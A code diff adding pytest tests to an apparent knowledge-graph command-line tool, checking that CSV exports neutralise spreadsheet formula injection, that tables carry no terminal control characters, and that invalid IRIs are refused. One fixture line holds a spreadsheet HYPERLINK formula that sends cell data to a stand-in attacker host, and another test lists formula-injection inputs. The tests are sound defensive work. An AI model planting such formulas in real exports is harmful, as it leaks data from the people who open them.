@@ -180,3 +180,84 @@ def test_integrity_violations_name_file_line_and_field(kg, data_copy):
         r"is after the source's own date",
         result.stderr,
     ), result.stderr
+
+
+HOSTILE = Path(__file__).parent / "fixtures" / "hostile-data"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+@pytest.fixture(scope="module")
+def hostile_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    from kg.data.paths import Paths
+    from kg.graph.build import build
+
+    out = tmp_path_factory.mktemp("hostile") / "out"
+    build(Paths(data=HOSTILE, output=out))
+    return out
+
+
+def _csv_commands(out: Path) -> dict[str, list[str]]:
+    return {
+        "who-held": ["who-held", "chief executive", "-f", "csv", "--out", str(out)],
+        "timeline": ["timeline", "-f", "csv", "--out", str(out)],
+        "export": ["export", "--format", "csv", "--out", str(out)],
+        "query": ["query", "SELECT ?name WHERE { ?p foaf:name ?name }", "-f", "csv", "--out", str(out)],
+    }
+
+
+@pytest.mark.parametrize("command", ["who-held", "timeline", "export", "query"])
+def test_every_csv_neutralises_formulas(hostile_out, kg, command):
+    import csv
+    import io
+
+    result = kg(*_csv_commands(hostile_out)[command])
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert any(cell.startswith("'" + FORMULA) for cell in cells), cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+
+
+def test_csv_cell_follows_owasp():
+    from kg.store.sparql import csv_cell
+
+    for hostile in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "\x1b=1+1"):
+        assert csv_cell(hostile).startswith("'"), hostile
+    for plain in ("Jane Smith", "-12", "+3.5", "2019-06-01", "", "a=b"):
+        assert csv_cell(plain) == plain
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["who-held", "chief executive"],
+        ["timeline"],
+        ["query", "SELECT ?label WHERE { ?p skos:prefLabel ?label }"],
+    ],
+)
+def test_tables_carry_no_terminal_control_characters(hostile_out, kg, args):
+    result = kg(*args, "--out", str(hostile_out))
+    assert result.exit_code == 0, result.output
+    assert "Chief executive forged row" in result.stdout  # the label is shown, its line break as a space
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stdout), repr(result.stdout)
+    rows = result.stdout.splitlines()
+    counted = re.fullmatch(r"\((\d+) rows?\)", rows[-1])
+    assert counted and len(rows) == int(counted[1]) + 3, rows  # header, rule, rows, count: no row broken in two
+
+
+@pytest.mark.parametrize("store", [False, True])
+def test_invalid_iri_param_is_refused_the_same_everywhere(built, tmp_path, store, caplog):
+    from kg.errors import QueryError
+    from kg.store.sparql import run_query
+
+    ds = built.dataset
+    if store:
+        import pyoxigraph
+
+        from kg.store.backend import oxigraph_dataset
+
+        ds = oxigraph_dataset(pyoxigraph.Store())
+    bad = "https://w3id.org/accountability-kg/id/person/jan edwards"
+    with pytest.raises(QueryError, match=r"--param person: .* is not a valid IRI"):
+        run_query(ds, "person-posts", {"person": bad})
+    assert "does not look like a valid URI" not in caplog.text
